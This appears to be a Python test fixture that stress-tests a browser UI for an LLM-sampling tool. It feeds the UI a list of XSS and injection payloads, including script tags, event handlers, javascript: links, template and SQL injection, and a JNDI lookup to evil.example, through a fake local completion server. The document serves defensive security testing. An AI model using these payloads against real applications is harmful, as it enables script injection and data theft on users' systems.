"""Hostile input for the browser test: XSS / injection payloads, an OpenAI-compatible server that
returns them as model outputs, and a workspace that carries them everywhere text is shown.

Every payload carries a marker ``lbxNN`` (``NN`` its number): a dialog, a network request, or an
element in the page that carries a marker means that payload executed (or was rendered as markup).
The server speaks ``POST /v1/completions`` like ``loopbreak serve`` / ``vllm serve``, so the
candidates come through the real sampling path (``core.sampling`` openai backend, a real job
process); an LLM-judge request (its prompt starts "You are grading") is answered with a JSON
verdict whose rationale is hostile too.
"""

from __future__ import annotations

import json
import random
import re
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

EVIL = "http://evil.example"


def _js(n: int) -> str:
    return f"alert('lbx{n:02d}')"


# (marker number, payload). Markers with an "exact" rendering (bold, heading, coloured text…) are
# listed in RENDERED: an element whose whole text is that marker means Markdown was interpreted.
PAYLOADS: list[tuple[int, str]] = [
    (1, f"<script>{_js(1)}</script>"),
    (2, f'<img src=x onerror="{_js(2)}">'),
    (3, f'<svg onload="{_js(3)}"><circle r="5"/></svg>'),
    (4, f"<svg><script>{_js(4)}</script></svg>"),
    (5, f'<a href="javascript:{_js(5)}">click lbx05</a>'),
    (6, f"[click lbx06](javascript:{_js(6)})"),
    (7, f"![lbx07]({EVIL}/lbx07.png)"),
    (8, f'<iframe src="javascript:{_js(8)}"></iframe>'),
    (9, "<iframe srcdoc=\"<script>parent.alert('lbx09')</script>\"></iframe>"),
    (10, f"<style>body{{display:none!important}} *{{background:url({EVIL}/lbx10.png)}}</style>"),
    (11, f"&lt;script&gt;{_js(11)}&lt;/script&gt; &#60;img src=x onerror={_js(11)}&#62;"),
    (12, f"&#x3C;img src=x onerror=\"{_js(12)}\"&#x3E; &amp;lt;b&amp;gt;"),
    (13, f"<details open ontoggle=\"{_js(13)}\"><summary>lbx13</summary></details>"),
    (14, f"</details></mark></div><img src=x onerror=\"{_js(14)}\">"),
    (15, f"\"><img src=x onerror={_js(15)}> '><svg onload={_js(15)}>"),
    (16, f"<math><mtext><table><mglyph><style><img src=x onerror=\"{_js(16)}\">"),
    (17, f"<noscript><p title=\"</noscript><img src=x onerror={_js(17)}>\">"),
    (18, f'<object data="javascript:{_js(18)}"></object><embed src="javascript:{_js(18)}">'),
    (19, f'<form action="javascript:{_js(19)}"><input autofocus onfocus="{_js(19)}"><button>lbx19</button></form>'),
    (20, f'<meta http-equiv="refresh" content="0;url=javascript:{_js(20)}"><base href="{EVIL}/lbx20/">'),
    (21, f'<link rel="stylesheet" href="{EVIL}/lbx21.css"><video><source onerror="{_js(21)}"></video>'),
    (22, "**lbx22** :red[lbx22red] # lbx22head ~~lbx22del~~ :material/skull: :skull: <b>lbx22b</b>"),
    (23, "$\\href{javascript:alert('lbx23')}{lbx23}$ $$\\color{red}{lbx23tex}$$ $x^2$"),
    (24, f"<javascript:{_js(24)}> [lbx24][r]\n\n[r]: javascript:{_js(24)}"),
    (25, f"```\n</code></pre><img src=x onerror=\"{_js(25)}\">\n```"),
    (26, "lbx26\u200b<\u200bscript\u200b>\u200balert('lbx26')\u200b</script>\ufeff\u200d\u2060"),
    (27, "lbx27 invoice_\u202egpj.exe\u202c \u2066RTL\u2069 \u202bmixed\u202c \u061c"),
    (28, "{{constructor.constructor('alert(\"lbx28\")')()}} ${alert('lbx28')} <%= 'lbx28' %>"),
    (29, f"<marquee onstart=\"{_js(29)}\">lbx29</marquee><body onload=\"{_js(29)}\">"),
    (30, f"<a href=\"data:text/html,<script>{_js(30)}</script>\">lbx30</a> <img src=\"{EVIL}/lbx30.png\">"),
    (31, "\x1b[31mlbx31\x1b[0m \r\n\tlbx31 \u0007\u0008 \ud7ff \U0001F600"),
    (32, "lbx32 '; DROP TABLE items; -- \" OR 1=1 -- \\x00 %00 ${jndi:ldap://evil.example/lbx32}"),
]
RENDERED = {"lbx22", "lbx22red", "lbx22head", "lbx22del", "lbx22b", "lbx23", "lbx23tex", "skull"}  # skull: a Material icon
# The 1 MB single-line output: marker 33 (a payload at each end, words in between, no newline).
BIG = 33


def big_line(chars: int = 1_000_000) -> str:
    rnd = random.Random(7)
    words = ["nota", "fiscal", "<b>", "valor", "&amp;", "CNPJ", "</div>", "total", "\u202e", "item"]
    head = f"<img src=x onerror=\"{_js(BIG)}\"> lbx33 "
    tail = f" <script>{_js(BIG)}</script>"
    body = []
    n = len(head) + len(tail)
    while n < chars:
        w = rnd.choice(words) + str(rnd.randrange(1000)) + " "
        body.append(w)
        n += len(w)
    return (head + "".join(body) + tail)[:chars]


def payload(n: int) -> str:
    return dict(PAYLOADS)[n]


def markers() -> list[str]:
    return [f"lbx{n:02d}" for n, _ in PAYLOADS] + [f"lbx{BIG}"]


# ---------------------------------------------------------------- the documents

N_ITEMS = 6


def _chunk(k: int) -> list[tuple[int, str]]:
    """The payloads item k carries (all of them, spread over the items)."""
    return [p for i, p in enumerate(PAYLOADS) if i % N_ITEMS == k]


ITEM_IDS = [
    "<img src=x onerror=\"alert('lbx02')\">",
    "**lbx22** `x` :red[lbx22red]",
    "# lbx22head",
    "[click lbx06](javascript:alert('lbx06'))",
    "$\\color{red}{lbx23tex}$ \u202elbx27",
    "</details><svg onload=\"alert('lbx03')\">",
]


def records() -> list[dict]:
    """One record per item: its document, reference and metadata carry its share of the payloads."""
    out = []
    for k in range(N_ITEMS):
        chunk = _chunk(k)
        doc = f"HOSTILE-ITEM-{k}\nNota fiscal\n" + "\n".join(f"campo {n}: {p}" for n, p in chunk)
        ref = {"item": k, "campos": {f"c{n}": p for n, p in chunk}, "obs": chunk[0][1]}
        out.append({
            "id": ITEM_IDS[k], "text": doc,
            "reference": json.dumps(ref, ensure_ascii=False) if k % 2 == 0 else " | ".join(p for _, p in chunk),
            "split": "train", "note": chunk[-1][1],
        })
    return out


def reference_for(k: int) -> str:
    return records()[k]["reference"]


# ---------------------------------------------------------------- the server

RUBRIC = [
    {"name": "fidelity", "description": "<img src=x onerror=alert('lbx02')>", "weight": 1.0},
    {"name": "<b>lbx22</b> :red[lbx22red]", "description": "markdown in a criterion name", "weight": 1.0},
    {"name": "<a href=\"javascript:alert('lbx05')\">lbx05</a>", "description": "link in a criterion name", "weight": 1.0},
]


def completion_texts(prompt: str, n: int, greedy: bool, max_tokens: int) -> list[tuple[str, str]]:
    """(text, finish_reason) per choice: the greedy decode loops on a payload to the limit (the rejected),
    the first sample copies the reference (the chosen), the rest are payloads; item 5 has the 1 MB line."""
    if prompt.startswith("You are grading"):  # "stray text" around the scores: the rationale is the answer itself
        answer = "".join(f"{c['name']}: 7\n" for c in RUBRIC) + "overall: 7\n" + " ".join(p for _, p in PAYLOADS[:12])
        if "HOSTILE-ITEM-1" in prompt:  # an unreadable verdict: a judge error quoting hostile text
            answer = "no scores here " + payload(2) + payload(22)
        return [(answer, "stop")] * max(1, n)
    m = re.search(r"HOSTILE-ITEM-(\d+)", prompt)
    k = int(m.group(1)) if m else 0
    chunk = _chunk(k)
    if greedy:
        unit = f"| {chunk[0][1]} | {k} |\n"
        return [((unit * (4000 // len(unit) + 2))[:4000], "length")]
    out = [(reference_for(k), "stop")]
    for i in range(1, n):
        if k == N_ITEMS - 1 and i == 1:
            out.append((big_line(), "length"))
        else:
            out.append((" ".join(p for _, p in chunk[i % len(chunk):] + chunk[:i % len(chunk)]), "stop"))
    return out


class HostileHandler(BaseHTTPRequestHandler):
    def log_message(self, format, *args):
        pass

    def _send(self, code: int, body: dict | str) -> None:
        data = (json.dumps(body, ensure_ascii=False) if isinstance(body, dict) else body).encode()
        self.send_response(code)
        self.send_header("Content-Type", "application/json" if isinstance(body, dict) else "text/html")
        self.send_header("Content-Length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)

    def do_POST(self):
        body = json.loads(self.rfile.read(int(self.headers.get("Content-Length", 0))) or b"{}")
        if body.get("model") == "refuse":  # every request refused with a hostile body: the run fails quoting it
            return self._send(400, payload(2) + payload(22) + payload(6))
        self.server.requests += 1
        choices = completion_texts(body["prompt"], int(body.get("n", 1)), float(body.get("temperature", 1)) == 0.0,
                                   int(body.get("max_tokens", 16)))
        self._send(200, {"object": "text_completion", "choices": [
            {"index": i, "text": t, "finish_reason": f, "usage": {"completion_tokens": max(1, len(t) // 4)}}
            for i, (t, f) in enumerate(choices)]})


class HostileServer(ThreadingHTTPServer):
    daemon_threads = True

    def __init__(self):
        super().__init__(("127.0.0.1", 0), HostileHandler)
        self.requests = 0
        self.url = f"http://127.0.0.1:{self.server_port}"
        threading.Thread(target=self.serve_forever, daemon=True).start()


# ---------------------------------------------------------------- the workspace

HOSTILE_DATASET = "docs :red[lbx22red] <b>lbx22</b> :skull: :material/skull: www.evil.example"
HOSTILE_MODEL = "<img src=x onerror=\"alert('lbx02')\"> **lbx22**"
HOSTILE_FAMILY = ":red[lbx22red] $lbx23$"
HOSTILE_REVIEWER = "<img src=x onerror=alert('lbx02')> **lbx22** :red[lbx22red]"


def build_workspace(root: Path) -> dict:
    """Import the hostile documents, sample them through the hostile server (real openai backend, real
    job process), judge (reference and LLM), mine pairs, and leave one failed run quoting the server."""
    from core import jobs
    from core.judges.base import JudgeConfig
    from core.policy.mining import PairPolicy
    from core.samplers.base import DecodingConfig
    from core.steps.evaluate import EvalConfig, start_eval
    from core.steps.importer import import_file
    from core.steps.judge import start_judging
    from core.steps.pairs import mine_run
    from core.steps.sample import SampleConfig, start_sampling
    from core.store import open_workspace
    from core.store.models import register_model

    root.parent.mkdir(parents=True, exist_ok=True)
    src = root.parent / "<img src=x onerror=alert('lbx02')> lbx22.jsonl"
    src.write_text("".join(json.dumps(r, ensure_ascii=False) + "\n" for r in records()), encoding="utf-8")
    server = HostileServer()
    ws = open_workspace(root)
    try:
        import_file(ws, src, HOSTILE_DATASET)
        register_model(ws.cursor(), name=HOSTILE_MODEL, path="hostile-server", family=HOSTILE_FAMILY, stage="sft")
        cfg = SampleConfig(model=HOSTILE_MODEL, server_model="hostile", dataset=HOSTILE_DATASET, backend="openai",
                           base_url=server.url, retries=0, timeout_s=30,
                           decoding=DecodingConfig(n=3, max_new_tokens=1000, with_greedy=True))
        refused = start_sampling(ws, SampleConfig(model="refuse", dataset=HOSTILE_DATASET, backend="openai",
                                                  base_url=server.url, retries=0, limit=2,
                                                  decoding=DecodingConfig(n=1, with_greedy=False)))
        sample_run = start_sampling(ws, cfg)  # the latest run: the one the Sample page opens on
        for run in (sample_run, refused):
            jobs.wait(ws, run)
        llm_judge = start_judging(ws, sample_run, JudgeConfig(judge="llm", judge_model="hostile", backend="openai",
                                                              base_url=server.url, rubric=RUBRIC, retries=0))
        ref_judge = start_judging(ws, sample_run, JudgeConfig(judge="reference", rubric=RUBRIC))  # the Judge page's latest
        evals = start_eval(ws, EvalConfig(models=[HOSTILE_MODEL], dataset=HOSTILE_DATASET, split="train", n_sampled=1,
                                          max_new_tokens=1000, backend="openai", base_url=server.url))
        for run in evals:
            jobs.wait(ws, run)
        for run in (ref_judge, llm_judge):
            jobs.wait(ws, run)
        jobs.sync_runs(ws)
        mined = mine_run(ws, ref_judge, PairPolicy())
        states = {r["run_id"]: r["status"] for r in jobs.list_runs(ws)}
        n_cands = ws.cursor().execute("SELECT count(*) FROM candidates").fetchall()[0][0]
        return {"sample_run": sample_run, "refused_run": refused, "judge_runs": [ref_judge, llm_judge], "eval_runs": evals,
                "pairs": mined["new"], "states": states, "candidates": n_cands, "requests": server.requests}
    finally:
        ws.close()
        server.shutdown()
